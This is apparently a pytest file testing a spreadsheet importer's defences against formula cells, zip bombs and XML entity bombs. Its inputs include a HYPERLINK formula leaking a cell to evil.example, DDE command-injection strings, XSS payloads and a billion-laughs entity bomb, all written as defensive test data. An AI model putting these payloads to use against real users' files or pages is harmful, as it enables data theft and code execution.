from __future__ import annotations

import datetime
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from generator.downloads import xlsx_export
from generator.progress.model import ProgressError
from generator.progress.xlsx_import import read_workbook
from generator.select import Checklist
from tests.downloads.libreoffice import convert, needs_libreoffice
from tests.progress.conftest import Fill, Text, fill_workbook

KNOWN = frozenset({"HST-001", "IAM-001"})


def _read(path: Path, **kwargs: str) -> object:
    return read_workbook(path, lambda who: KNOWN, **kwargs)


def _problems(path: Path, **kwargs: str) -> list[str]:
    with pytest.raises(ProgressError) as caught:
        read_workbook(path, lambda who: KNOWN, **kwargs)
    return [f"{p.where} {p.code}" for p in caught.value.problems]


def test_answers_are_read_by_heading_with_dates_and_labels(filled: Fill) -> None:
    path = filled(
        {
            "Checklist": {
                "H2": "Implemented",
                "I2": "Dana",
                "J2": datetime.datetime(2027, 3, 31),
                "K2": "Key rotated",
                "H3": "partially  implemented",
                "J3": "2027-01-05",
            }
        }
    )
    progress = read_workbook(path, lambda who: KNOWN)
    assert (progress.checklist, progress.catalogue_version) == ("baseline", "0.1.0")
    hst, iam = progress.items["HST-001"], progress.items["IAM-001"]
    assert (hst.status, hst.owner, hst.due, hst.notes) == ("implemented", "Dana", "2027-03-31", "Key rotated")
    assert (iam.status, iam.due) == ("partially-implemented", "2027-01-05")


def test_untouched_rows_are_left_out(filled: Fill) -> None:
    assert read_workbook(filled({"Checklist": {"H2": "in progress"}}), lambda who: KNOWN).items.keys() == {"HST-001"}


def test_formula_cells_are_refused_at_their_place_never_evaluated(filled: Fill) -> None:
    path = filled(
        {
            "Checklist": {
                "K2": '=HYPERLINK("https://evil.example/?"&A1,"click")',
                "I3": "=1+1",
                "J3": "=TODAY()+30",
                "E3": "=1+1",  # Effort (minutes): a column Ambit does not read may hold anything
            }
        }
    )
    assert _problems(path) == ["Checklist!K2 formula", "Checklist!I3 formula", "Checklist!J3 formula"]
    with pytest.raises(ProgressError) as caught:
        _read(path)
    assert "the Notes cell holds a formula; Ambit reads typed values only" in caught.value.render()
    assert "evil.example" not in caught.value.render()


def test_text_that_starts_like_a_formula_and_markup_stay_text(filled: Fill) -> None:
    path = filled(
        {
            "Checklist": {
                "K2": Text('=HYPERLINK("https://evil.example/?"&A1,"click")'),
                "I2": Text("=1+1"),
                "I3": "'+cmd",  # as Ambit's own exports write "+cmd": the "'" is not part of it
                "K3": "<script>alert(1)</script> [x](javascript:alert(1))",
            }
        }
    )
    progress = read_workbook(path, lambda who: KNOWN)
    assert progress.items["HST-001"].notes == '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert progress.items["HST-001"].owner == "=1+1"
    assert progress.items["IAM-001"].owner == "+cmd"
    assert progress.items["IAM-001"].notes == "<script>alert(1)</script> [x](javascript:alert(1))"


def test_every_bad_cell_is_reported_at_its_place_in_one_run(filled: Fill) -> None:
    path = filled(
        {
            "Checklist": {
                "H2": "done",
                "J2": "31/03/2027",
                "J3": "2027-02-30",
                "I3": "x" * 201,
                "A4": "IAM-999",
                "A5": "=cmd|' /C calc'!A0",
                "A6": "IAM-001",
            }
        }
    )
    assert _problems(path) == [
        "Checklist!H2 unknown-status",
        "Checklist!J2 bad-date",
        "Checklist!I3 too-long",
        "Checklist!J3 bad-date",
        "Checklist!A4 unknown-control",
        "Checklist!A5 formula",
        "Checklist!A6 duplicate-id",
    ]


def test_problem_text_names_file_sheet_cell_and_hint(filled: Fill) -> None:
    path = filled({"Checklist": {"H2": "done"}})
    with pytest.raises(ProgressError) as caught:
        _read(path)
    assert caught.value.render() == (
        f"{path}:Checklist!H2: error[unknown-status]: unknown status 'done'\n"
        "    hint: choose one of: not started, in progress, implemented, partially implemented, not applicable, "
        "risk accepted"
    )


def test_another_checklists_workbook_is_refused(filled: Fill) -> None:
    assert _problems(filled({}), expected_checklist="saas") == ["properties other-checklist"]


def test_a_renamed_heading_or_missing_sheet_is_reported(filled: Fill, checklist: Checklist, tmp_path: Path) -> None:
    assert _problems(filled({"Checklist": {"H1": "State"}})) == ["Checklist!A1 missing-column"]
    import openpyxl

    book = openpyxl.load_workbook(fill_workbook(xlsx_export.render(checklist), tmp_path / "r.xlsx", {}))
    book["Checklist"].title = "Sheet1"
    book.save(tmp_path / "r.xlsx")
    assert _problems(tmp_path / "r.xlsx") == ["Checklist!A1 missing-sheet"]


def test_malformed_and_foreign_files_are_refused(tmp_path: Path) -> None:
    text = tmp_path / "notes.xlsx"
    text.write_text("id,status\n", encoding="utf-8")
    assert _problems(text) == ["1:1 not-xlsx"]
    junk = tmp_path / "junk.xlsx"
    with zipfile.ZipFile(junk, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    assert _problems(junk) == ["1:1 not-xlsx"]
    import openpyxl

    foreign = tmp_path / "foreign.xlsx"
    openpyxl.Workbook().save(foreign)
    assert _problems(foreign) == ["properties not-ambit-workbook"]


def test_a_zip_bomb_is_refused_before_parsing(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\0" * 210_000_000)
    assert bomb.stat().st_size < 1_000_000
    assert _problems(bomb) == ["1:1 too-large"]


def test_an_xml_entity_bomb_is_refused(filled: Fill, tmp_path: Path) -> None:
    source = filled({})
    bomb = tmp_path / "entities.xlsx"
    lol = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
        "<cp:keywords>&lol2;</cp:keywords></cp:coreProperties>"
    )
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(bomb, "w") as out:
        for entry in original.infolist():
            data = lol.encode() if entry.filename == "docProps/core.xml" else original.read(entry)
            out.writestr(entry, data)
    assert _problems(bomb) == ["1:1 not-xlsx"]  # defusedxml refuses the DTD's entities


def test_map_checklist_statuses_per_component(map_checklist: Checklist, tmp_path: Path) -> None:
    path = fill_workbook(
        xlsx_export.render(map_checklist),
        tmp_path / "map.xlsx",
        {"By component": {"D2": "implemented", "D3": "in progress"}, "Checklist": {"I2": "Ops"}},
    )
    progress = read_workbook(path, lambda who: KNOWN)
    assert progress.checklist == "map-fleet"
    assert dict(progress.items["HST-001"].components) == {"trackers": "implemented", "driver-phones": "in-progress"}
    assert progress.items["HST-001"].owner == "Ops"
    assert "IAM-001" not in progress.items


def test_map_component_sheet_problems(map_checklist: Checklist, tmp_path: Path) -> None:
    path = fill_workbook(
        xlsx_export.render(map_checklist),
        tmp_path / "map.xlsx",
        {"By component": {"C3": "<b>phones</b>", "D4": "finished", "A5": "HST-001", "C5": "trackers (x)"}},
    )
    assert _problems(path) == [
        "By component!C3 bad-component",
        "By component!D4 unknown-status",
        "By component!C5 duplicate-component",
    ]


@needs_libreoffice
def test_a_workbook_saved_again_by_libreoffice_reads_back(filled: Fill, tmp_path: Path) -> None:
    # LibreOffice writes the keywords back as a list ("ambit-checklist baseline ambit-catalogue
    # 0.1.0"), keeps text that starts with "=" as text and a formula as a formula.
    source = filled(
        {"Checklist": {"H2": "implemented", "K2": Text('=HYPERLINK("https://evil.example")'), "K3": "=1+1"}}
    )
    saved = convert(source, "xlsx:Calc MS Excel 2007 XML", tmp_path)
    assert _problems(saved) == ["Checklist!K3 formula"]  # the identity and every other cell read fine
    import openpyxl

    book = openpyxl.load_workbook(saved)
    book["Checklist"]["K3"] = None
    book.save(saved)
    progress = read_workbook(saved, lambda who: KNOWN)
    assert progress.checklist == "baseline"
    assert progress.items["HST-001"].status == "implemented"
    assert progress.items["HST-001"].notes == '=HYPERLINK("https://evil.example")'


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    notes=st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=300),
    owner=st.sampled_from(["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "Dana"]),
)
def test_any_text_typed_into_owner_and_notes_comes_back_as_that_text(filled: Fill, notes: str, owner: str) -> None:
    # "'=x" is how Ambit's exports write the text "=x", so it reads back as "=x"; a person typing
    # '=x in a spreadsheet stores "=x" (the "'" only says "text").
    assume(not notes.startswith("'"))
    progress = read_workbook(filled({"Checklist": {"I2": Text(owner), "K2": Text(notes)}}), lambda who: KNOWN)
    item = progress.items["HST-001"]
    assert (item.owner, item.notes) == (owner, notes.strip())
